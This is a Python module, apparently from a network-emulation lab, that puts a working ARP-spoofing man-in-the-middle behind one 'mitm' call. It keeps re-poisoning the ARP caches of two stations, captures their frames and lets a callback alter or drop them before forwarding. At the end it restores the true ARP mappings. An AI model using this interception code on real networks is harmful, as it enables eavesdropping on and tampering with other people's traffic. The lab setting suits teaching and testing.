"""A man in the middle, by one call: `with mitm("web-1", "host1:cni0", by="web-2") as middle: ...`

Two stations of one link are told that the other's address is at the MAC of a third; what they then
send to each other comes by it, is shown to a function that may change or keep it, and is passed on.
At the end both are told the truth.

Rule of this file: only what the two send to each other is touched.
"""

from __future__ import annotations

import threading
from collections.abc import Callable
from typing import Any

from scapy.layers.inet import ICMP, IP, TCP, UDP
from scapy.layers.l2 import ARP, Ether
from scapy.packet import Packet
from scapy.plist import PacketList
from scapy.sendrecv import AsyncSniffer

from emunet.shell.ports import Ports
from emunet.shell.provider import PortSocket

_LIE_SECONDS = 1.5
_BEGIN_SECONDS = 5.0
_SEEN_MAX = 10_000

Change = Callable[[Packet], Packet | None]


class Middle:
    """Somebody in between. `seen`: what came by, as it came, the last 10,000 frames."""

    def __init__(self, ports: Ports, a: str, b: str, by: str, change: Change | None = None) -> None:
        """Everything is named as ports are. ValueError where they are no three stations of one link."""
        ports.refresh()
        self.seen = PacketList(name="in the middle")
        self._ends = [_station(ports, name) for name in (a, b)]
        self._mac = _station(ports, by)[1]
        devices = {ports.by_name[name].device for name in (a, b, by)}
        if len({mac for _, mac in self._ends} | {self._mac}) < 3 or len(devices) > 1:
            raise ValueError(f"{a}, {b} and {by} are no three stations of one link: ARP does not leave it")
        self._change = change
        self._socket = PortSocket(iface=by)
        self._over = threading.Event()
        self._begun = threading.Event()
        self._sniffer = AsyncSniffer(
            opened_socket=self._socket, prn=self._pass_on, store=False, started_callback=self._begun.set
        )
        self._liar = threading.Thread(target=self._lie, daemon=True)

    def start(self) -> Middle:
        """Step in between."""
        self._sniffer.start()
        self._begun.wait(_BEGIN_SECONDS)
        self._tell(self._mac, self._mac)
        self._liar.start()
        return self

    def stop(self) -> None:
        """Step out, and tell both the truth."""
        if self._over.is_set():
            return
        self._over.set()
        self._liar.join()
        (_, first), (_, second) = self._ends
        self._tell(first, second)
        self._sniffer.stop()
        self._socket.close()

    def __enter__(self) -> Middle:
        return self.start()

    def __exit__(self, *error: object) -> None:
        self.stop()

    def _lie(self) -> None:
        while not self._over.wait(_LIE_SECONDS):
            self._tell(self._mac, self._mac)

    def _tell(self, first: str, second: str) -> None:
        """Tell each end that the other's address is at a MAC: `first` for that of the first end.

        As a question, which an end believes at once, also where it knew nothing of the other (RFC 826).
        """
        for (address, _), mac, (asked, target) in zip(self._ends, (first, second), reversed(self._ends), strict=True):
            question = ARP(op="who-has", hwsrc=mac, psrc=address, hwdst="00:00:00:00:00:00", pdst=asked)
            self._socket.send(Ether(src=self._mac, dst=target) / question)

    def _pass_on(self, frame: Packet) -> None:
        """Pass a frame on to the end that it is meant for, changed if somebody wants that."""
        macs = [mac for _, mac in self._ends]
        if frame.dst != self._mac or frame.src not in macs or ARP in frame:
            return
        self.seen.append(frame)
        del self.seen.res[:-_SEEN_MAX]
        changed = frame.copy() if self._change is None else self._change(frame.copy())
        if changed is None:
            return
        changed.dst = macs[1 - macs.index(frame.src)]
        changed.src = self._mac
        self._socket.send(_sound(changed, frame))


def _sound(changed: Packet, before: Packet) -> Packet:
    """With lengths and checksums that fit, where a change may have made them wrong."""
    if bytes(changed)[14:] == bytes(before)[14:]:
        return changed
    for kind, fields in ((IP, ("len", "chksum")), (TCP, ("chksum",)), (UDP, ("len", "chksum")), (ICMP, ("chksum",))):
        layer = changed.getlayer(kind)
        while layer is not None:
            for field in fields:
                layer.delfieldval(field)
            layer = layer.payload.getlayer(kind)
    return changed


def _station(ports: Ports, name: str) -> tuple[str, str]:
    """The IPv4 address and the MAC of a port. ValueError."""
    port = ports.by_name.get(name.removeprefix("default/"))
    if port is None:
        raise ValueError(f"there is no port {name}; there are: {', '.join(ports.by_name)}")
    address = next((row.partition("/")[0] for row in port.addresses if ":" not in row), None)
    if address is None or not port.mac:
        raise ValueError(f"{name} has no IPv4 address: there is nothing about it to tell in ARP")
    return address, port.mac


def make_mitm(ports: Ports) -> Any:
    """The function `mitm` of the prompt, for the ports of a lab."""

    def mitm(a: str, b: str, by: str, change: Any = None) -> Middle:
        """Let `by` step between two stations of its link, as a context; `change(frame)` gives what is passed on."""
        return Middle(ports, a, b, by, change)

    return mitm
